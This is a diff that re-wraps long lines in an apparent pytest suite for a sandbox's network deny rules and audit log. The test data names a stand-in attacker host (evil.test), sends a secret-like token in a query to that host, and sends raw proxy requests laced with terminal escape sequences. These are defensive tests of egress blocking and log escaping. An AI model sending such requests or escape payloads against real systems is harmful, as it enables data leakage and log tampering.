@@ -16,7 +16,8 @@ import json, sys, urllib.request, urllib.error
 answers = {}
 for url in sys.argv[1:]:
     try:
-        with urllib.request.urlopen(url, timeout=50) as answer: answers[url] = [answer.status, answer.read().decode("latin-1")]
+        with urllib.request.urlopen(url, timeout=50) as answer:
+            answers[url] = [answer.status, answer.read().decode("latin-1")]
     except urllib.error.HTTPError as error: answers[url] = [error.code, error.read().decode("latin-1")]
     except Exception as error: answers[url] = [0, str(error)]
 print(json.dumps(answers))
@@ -131,7 +132,8 @@ def test_rules(sbx, rule, url, allowed):
 
 @pytest.mark.parametrize("deny, url", [
     ("evil.test", "http://evil.test/"), ("evil.test", "http://EVIL.test./"), ("*.evil.test", "http://sub.evil.test/"),
-    ("evil.test:80", "http://evil.test/"), ("198.51.100.66", "http://evil.test/"), ("198.51.100.0/24", "http://198.51.100.9/"),
+    ("evil.test:80", "http://evil.test/"), ("198.51.100.66", "http://evil.test/"),
+    ("198.51.100.0/24", "http://198.51.100.9/"),
     ("evil.test:*", "http://evil.test:8080/"),
 ])
 def test_deny_wins(sbx, lab, deny, url):
@@ -233,7 +235,8 @@ def test_network_none_with_allow_is_no_network(sbx, lab):
 
 def test_network_host(sbx):
     """Only when asked for by the user."""
-    result = sbx.shell("unset http_proxy; curl -sS http://192.0.2.10/ && curl -sS http://origin.test/", "--network", "host").ok()
+    result = sbx.shell("unset http_proxy; curl -sS http://192.0.2.10/ && curl -sS http://origin.test/",
+                       "--network", "host").ok()
     assert result.out.count("lab page") == 2, result
 
 
@@ -257,7 +260,8 @@ def test_audit_file(sbx, project):
     """P10: JSON lines that hold what DESIGN 10 names, without the query."""
     path = project.home + "/audit.jsonl"
     sbx.python(GET, "--allow", "origin.test", "--audit", path,
-               arguments=["http://origin.test/large/5000?token=hunter2", "http://evil.test/x?y=hunter2", "https://origin.test/"])
+               arguments=["http://origin.test/large/5000?token=hunter2", "http://evil.test/x?y=hunter2",
+                          "https://origin.test/"])
     with open(path) as file:
         text = file.read()
     lines = [json.loads(line) for line in text.splitlines()]
@@ -297,7 +301,8 @@ def test_audit_escapes_what_comes_from_inside(sbx, project):
 import os, socket, urllib.parse
 p = urllib.parse.urlsplit(os.environ["http_proxy"])
 for request in (b"GET http://evil.test/\x1b]0;title\x07 HTTP/1.1\r\nHost: evil.test\r\n\r\n",
-                b"CONNECT evil\x1b[31m.test:443 HTTP/1.1\r\n\r\n", b"GET http://evil.test/%1b[31m HTTP/1.1\r\nHost: evil.test\r\n\r\n"):
+                b"CONNECT evil\x1b[31m.test:443 HTTP/1.1\r\n\r\n",
+                b"GET http://evil.test/%1b[31m HTTP/1.1\r\nHost: evil.test\r\n\r\n"):
     s = socket.create_connection((p.hostname, p.port)); s.sendall(request); s.recv(9999); s.close()
 """
     result = sbx.python(code, "--audit", path)
